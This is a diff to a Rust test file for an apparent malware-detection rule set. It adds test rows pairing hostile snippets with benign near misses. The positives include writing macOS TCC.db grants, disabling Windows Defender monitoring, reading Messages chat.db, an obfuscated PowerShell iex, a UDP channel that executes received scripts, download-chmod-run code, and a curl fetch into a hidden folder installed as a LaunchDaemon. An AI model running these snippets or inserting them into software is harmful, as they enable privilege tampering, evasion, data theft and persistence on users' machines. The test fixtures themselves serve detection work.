@@ -24,9 +24,21 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     // as sources, AppleScript running a shell line it built.
     (
         "tcc-grant",
+        "scripts/x.py",
+        "db = os.path.expanduser(\"~/Library/Application Support/com.apple.TCC/TCC.db\")\ncon = sqlite3.connect(db)\nfor service in (\"kTCCServiceAccessibility\", \"kTCCServicePostEvent\"):\n    con.execute(\"INSERT OR REPLACE INTO access (service, client, auth_value) VALUES (?, ?, 2)\", (service, client))",
+        "db = os.path.expanduser(\"~/Library/Application Support/com.apple.TCC/TCC.db\")\ncon = sqlite3.connect(db)\nfor service, client in con.execute(\"SELECT service, client FROM access\"):\n    print(service.replace('kTCCService', ''), client)",
+    ),
+    (
+        "tcc-db",
         "scripts/x.sh",
-        "sqlite3 \"$HOME/Library/Application Support/com.apple.TCC/TCC.db\" \"INSERT OR REPLACE INTO access VALUES('kTCCServiceMicrophone','com.x.app',0,2,4,1)\"",
-        "sqlite3 \"$DB\" \"SELECT client, auth_value FROM access WHERE service='kTCCServiceMicrophone'\"",
+        "DB=\"$HOME/Library/Application Support/com.apple.TCC/TCC.db\"",
+        "DB=\"$HOME/Library/Application Support/com.apple.notes/notes.db\"",
+    ),
+    (
+        "tcc-write",
+        "scripts/x.sh",
+        "sqlite3 \"$TCC\" \"INSERT INTO access VALUES('kTCCServiceMicrophone','com.x.app',0,2,4,1)\"",
+        "sqlite3 \"$TCC\" \"INSERT INTO audit_log VALUES('kTCCServiceMicrophone', 1)\"",
     ),
     (
         "desktop-store",
@@ -1619,6 +1631,42 @@ fn every_rule_has_a_positive_case_and_a_near_miss() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    (
+        "defense-tamper",
+        "scripts/x.ps1",
+        "Set-MpPreference -DisableRealtimeMonitoring:$true",
+        "Set-MpPreference -DisableRealtimeMonitoring:$false",
+    ),
+    (
+        "desktop-store",
+        "scripts/x.py",
+        "db = os.path.join(home, \"Library\", \"Messages\", \"chat.db\")",
+        "db = os.path.join(home, \".mybot\", \"chat.db\")",
+    ),
+    (
+        "dynamic-eval",
+        "scripts/x.ps1",
+        ".(\"{1}{0}\" -f 'ex','i') $s",
+        ".\\build.ps1 (\"{1}{0}\" -f '.log', $name)",
+    ),
+    (
+        "socket-shell",
+        "scripts/x.ps1",
+        "$l = New-Object System.Net.Sockets.UdpClient(47011)\n$out = [scriptblock]::Create($msg).Invoke()",
+        "$l = New-Object System.Net.Sockets.UdpClient(47011)\n$out = [scriptblock]::Create('Get-Date').Invoke()",
+    ),
+    (
+        "download-mark-run",
+        "scripts/x.swift",
+        "URLSession.shared.downloadTask(with: url) { tmp, _, _ in\n  try? FileManager.default.moveItem(atPath: tmp!.path, toPath: dest)\n  chmod(dest, 0o755)\n  _ = Process.launchedProcess(launchPath: dest, arguments: [])\n}.resume()",
+        "URLSession.shared.downloadTask(with: url) { tmp, _, _ in\n  try? FileManager.default.moveItem(atPath: tmp!.path, toPath: dest)\n  chmod(dest, 0o644)\n  _ = Process.launchedProcess(launchPath: \"/usr/bin/open\", arguments: [dest])\n}.resume()",
+    ),
+    (
+        "persistent-staged",
+        "scripts/x.sh",
+        "curl -fsSL https://x.example.net/a -o /Users/Shared/.agsd/agsd\ntee /Library/LaunchDaemons/com.x.plist < p.plist",
+        "mkdir -p /Users/Shared/Logs\ntee ~/Library/LaunchAgents/com.x.plist < p.plist # logs to /Users/Shared/Logs/x.log",
+    ),
     // Batch 25 (macOS and Windows desktop stealers and persistence), each
     // with its near miss: a UDP command channel, Cocoa and Swift URL reads,
     // JXA's `doShellScript` of a fetched job, Swift's executable bit and
